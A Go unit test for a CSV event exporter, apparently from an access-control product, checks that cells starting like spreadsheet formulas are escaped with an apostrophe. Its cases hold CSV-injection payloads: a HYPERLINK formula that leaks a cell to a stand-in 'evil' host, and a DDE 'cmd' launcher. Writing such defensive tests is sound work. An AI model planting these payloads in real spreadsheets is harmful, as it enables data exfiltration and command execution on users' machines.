package export

import (
	"bytes"
	"encoding/csv"
	"testing"

	"github.com/tobira-ac/tobira/hq"
)

// TestEventsCSVEscapesFormulas feeds the CSV export events whose
// device-chosen text starts like a spreadsheet formula (OWASP "CSV
// injection") and reads the export back as a spreadsheet would see it.
func TestEventsCSVEscapesFormulas(t *testing.T) {
	tests := []struct {
		name, in, want string
	}{
		{"equals", `=HYPERLINK("http://evil/?"&A1,"x")`, `'=HYPERLINK("http://evil/?"&A1,"x")`},
		{"plus", "+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
		{"minus", "-2+3", "'-2+3"},
		{"at", "@SUM(1+1)", "'@SUM(1+1)"},
		{"tab", "\t=1", "'\t=1"},
		{"carriage return", "\r=1", "'\r=1"},
		{"plain", "card read", "card read"},
		{"formula char later", "a=b", "a=b"},
		{"empty", "", ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var out bytes.Buffer
			w, err := NewEventWriter(&out, "csv")
			if err != nil {
				t.Fatal(err)
			}
			ev := hq.StoredEvent{Site: "s1", Device: "d1"}
			ev.Type, ev.Door, ev.Reason, ev.Credential, ev.Token, ev.Detail = tt.in, tt.in, tt.in, tt.in, tt.in, tt.in
			if err := w.Write(ev); err != nil {
				t.Fatal(err)
			}
			if err := w.Flush(); err != nil {
				t.Fatal(err)
			}
			rows, err := csv.NewReader(&out).ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			row := rows[1]
			for _, col := range []int{4, 5, 7, 8, 9, 11} {
				if row[col] != tt.want {
					t.Errorf("column %s = %q, want %q", CSVHeader[col], row[col], tt.want)
				}
			}
		})
	}
}
